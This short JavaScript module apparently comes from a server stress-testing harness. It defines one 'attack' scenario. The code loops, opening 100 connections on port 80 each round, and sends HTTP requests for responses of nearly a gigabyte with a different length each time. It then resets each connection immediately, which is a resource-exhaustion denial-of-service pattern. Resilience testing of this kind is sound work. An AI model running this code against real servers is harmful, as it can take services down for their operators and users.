export const summary =
  'requests for the sum of a gigabyte, each of another length, by clients that are gone at once'

const LARGEST = 2 ** 30

export const attack = async (peers, { goesOn }) => {
  let length = LARGEST
  while (await goesOn(500)) {
    const all = await peers.connectMany(100, 80)
    for (const c of all) {
      c.write(Buffer.from(`GET /bytes/${length--} HTTP/1.1\r\nHost: x\r\n\r\n`))
      c.endsByReset()
    }
  }
}
